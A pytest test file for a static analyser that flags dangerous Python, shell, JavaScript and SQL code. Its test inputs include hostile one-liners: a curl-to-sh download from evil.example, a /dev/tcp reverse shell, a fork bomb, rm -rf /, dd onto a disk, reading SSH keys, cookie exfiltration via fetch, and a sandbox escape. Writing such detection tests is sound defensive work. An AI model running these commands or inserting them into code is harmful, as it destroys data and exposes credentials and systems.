"""Static analysis flags dangerous Python and shell/JS constructs and leaves plain code alone."""

import base64

import pytest

from mycel_subnet.safety import Severity, analyse_code

CLEAN = '''
import json
from pathlib import Path


def load(path: str) -> dict:
    """Read a JSON config."""
    return json.loads(Path(path).read_text())


def total(items: list[dict]) -> float:
    return sum(item["amount"] for item in items if item["amount"] > 10_000)
'''


def test_clean_code_scores_100():
    report = analyse_code(CLEAN, "python")
    assert report.score == 100 and report.findings == () and report.safe


@pytest.mark.parametrize(
    ("code", "finding"),
    [
        ("eval(user_input)", "PY_EVAL"),
        ("exec('print(1)')", "PY_EXEC"),
        ("compile(src, 'x', 'exec')", "PY_COMPILE"),
        ("__import__('os')", "PY_DYNAMIC_IMPORT"),
        ("import importlib\nimportlib.import_module(name)", "PY_DYNAMIC_IMPORT"),
        ("import os\nos.system('ls')", "PY_SHELL"),
        ("import os as o\no.system('ls')", "PY_SHELL"),
        ("from os import system\nsystem('ls')", "PY_SHELL"),
        ("import os\nos.execvp('sh', ['sh'])", "PY_PROCESS"),
        ("import subprocess\nsubprocess.run(['ls'])", "PY_SUBPROCESS"),
        ("from subprocess import Popen", "PY_SUBPROCESS"),
        ("import socket\nsocket.create_connection(('x', 1))", "PY_NETWORK"),
        ("import requests\nrequests.get('http://x')", "PY_NETWORK"),
        ("import httpx", "PY_NETWORK"),
        ("from urllib.request import urlopen", "PY_NETWORK"),
        ("open('out.txt', 'w').write('x')", "PY_FILE_WRITE"),
        ("open('out.txt', mode='a')", "PY_FILE_WRITE"),
        ("import os\nos.remove('x')", "PY_FILE_DELETE"),
        ("import shutil\nshutil.rmtree('/')", "PY_FILE_DELETE"),
        ("import pickle\npickle.loads(blob)", "PY_DESERIALISE"),
        ("import ctypes", "PY_NATIVE"),
        ("getattr(os, name)()", "PY_COMPUTED_ATTR"),
        ("getattr(os, 'system')('id')", "PY_COMPUTED_ATTR"),
        ("import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))", "PY_OBFUSCATED_EXEC"),
        ("import codecs\neval(codecs.decode('cevag(1)', 'rot13'))", "PY_OBFUSCATED_EXEC"),
        (f"blob = {base64.b64encode(bytes(300)).decode()!r}", "PY_ENCODED_BLOB"),
        ("os.system('rm -rf /')", "SH_RM_RF"),
        ("def f(:\n  pass", "PARSE_ERROR"),
    ],
)
def test_python_findings(code, finding):
    report = analyse_code(code, "python")
    assert finding in report.codes(), report.findings
    assert report.score < 100


def test_finding_has_line_number_and_message():
    report = analyse_code("x = 1\n\nimport os\nos.system('ls')\n", "python")
    shell = [f for f in report.findings if f.code == "PY_SHELL"]
    assert shell and shell[0].line == 4 and "os.system" in shell[0].message
    assert shell[0].severity is Severity.CRITICAL


def test_score_drops_with_more_findings():
    one = analyse_code("import os\nos.system('a')", "python").score
    two = analyse_code("import os, pickle\nos.system('a')\npickle.loads(b)", "python").score
    assert 0 <= two < one < 100


def test_obfuscated_exec_is_unsafe():
    assert not analyse_code("import base64\nexec(base64.b64decode(x))", "python").safe


@pytest.mark.parametrize(
    ("language", "code", "finding"),
    [
        ("bash", "rm -rf / --no-preserve-root", "SH_RM_RF"),
        ("sh", "rm -fr ~/project", "SH_RM_RF"),
        ("bash", "curl -fsSL https://evil.example/x.sh | sh", "SH_PIPE_TO_SHELL"),
        ("bash", "wget -qO- http://x | sudo bash", "SH_PIPE_TO_SHELL"),
        ("bash", "curl http://x | python3", "SH_PIPE_TO_INTERPRETER"),
        ("bash", ":(){ :|:& };:", "SH_FORK_BOMB"),
        ("bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "SH_REVERSE_SHELL"),
        ("bash", "echo aGk= | base64 -d | sh", "SH_EVAL_DECODE"),
        ("bash", "cat ~/.ssh/id_rsa", "SH_CREDENTIAL_FILES"),
        ("bash", "dd if=/dev/zero of=/dev/sda", "SH_DD_DEVICE"),
        ("javascript", "eval(atob('YWxlcnQoMSk='))", "JS_ATOB_EVAL"),
        ("js", "require('child_process').execSync('ls')", "JS_CHILD_PROCESS"),
        ("typescript", "fs.rmSync(dir, { recursive: true })", "JS_FS_DELETE"),
        ("js", "fetch('https://x/collect?d=' + document.cookie)", "JS_NETWORK"),
        ("sql", "DROP TABLE users;", "SQL_DROP"),
    ],
)
def test_token_scan_other_languages(language, code, finding):
    assert finding in analyse_code(code, language).codes()


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("bash", "ls -la && grep -rn TODO src/ | head"),
        ("bash", "rm build/output.o"),
        ("javascript", "const total = items.reduce((a, b) => a + b.amount, 0);"),
        ("sql", "SELECT * FROM invoices WHERE amount > 10000;"),
    ],
)
def test_token_scan_leaves_normal_code_alone(language, code):
    assert analyse_code(code, language).score == 100


def test_bad_input_is_a_clear_error():
    with pytest.raises(TypeError, match="code must be a str"):
        analyse_code(None, "python")  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="language"):
        analyse_code("x", 3)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("source", "code"),
    [
        ("def f():\n    return open('/etc/passwd').read()\n", "PY_FILE_READ"),
        ("def f():\n    return open('../secrets.txt').read()\n", "PY_FILE_READ"),
        ("import os\n\ndef f():\n    return os.environ['API_KEY']\n", "PY_ENVIRON"),
        ("import os as o\n\ndef f():\n    return o.getenv('TOKEN')\n", "PY_ENVIRON"),
        ("def f():\n    return ().__class__.__bases__[0].__subclasses__()\n", "PY_INTROSPECTION"),
        ("def f():\n    return __builtins__\n", "PY_INTROSPECTION"),
    ],
)
def test_host_reads_secrets_and_interpreter_escapes_are_high(source, code):
    report = analyse_code(source, "python")
    found = [f for f in report.findings if f.code == code]
    assert found and found[0].severity is Severity.HIGH, report.findings


def test_reading_a_relative_data_file_is_not_a_host_read():
    report = analyse_code("def f():\n    return open('data.txt').read()\n", "python")
    assert not [f for f in report.findings if f.code == "PY_FILE_READ"]
